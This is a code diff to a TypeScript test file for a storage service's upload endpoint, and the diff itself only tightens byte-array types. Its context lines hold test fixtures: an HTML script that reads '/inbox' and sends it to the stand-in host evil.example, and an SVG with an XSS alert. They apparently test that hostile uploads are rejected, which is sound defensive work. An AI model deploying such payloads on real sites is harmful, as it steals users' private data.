@@ -9,7 +9,7 @@ import { startTestStack, type TestStack, type TestUser } from '../helpers/stack.
 
 const HTML = '<!doctype html><script>fetch("/inbox").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>';
-const SIGNED: Record<string, Uint8Array> = {
+const SIGNED: Record<string, Uint8Array<ArrayBuffer>> = {
   'image/png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
   'image/jpeg': new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46]),
   'image/gif': new TextEncoder().encode('GIF89a\u0001\u0000\u0001\u0000'),
@@ -29,7 +29,7 @@ afterAll(async () => {
   await stack?.stop();
 });
 
-function rawUpload(key: string, contentType: string, body: Uint8Array | string, bucket = 'avatars'): Promise<Response> {
+function rawUpload(key: string, contentType: string, body: Uint8Array<ArrayBuffer> | string, bucket = 'avatars'): Promise<Response> {
   return fetch(`${stack.url}/storage/v1/object/${bucket}/${key}`, {
     method: 'POST',
     headers: { authorization: `Bearer ${user.accessToken}`, apikey: stack.stack.config.anonKey, 'content-type': contentType },
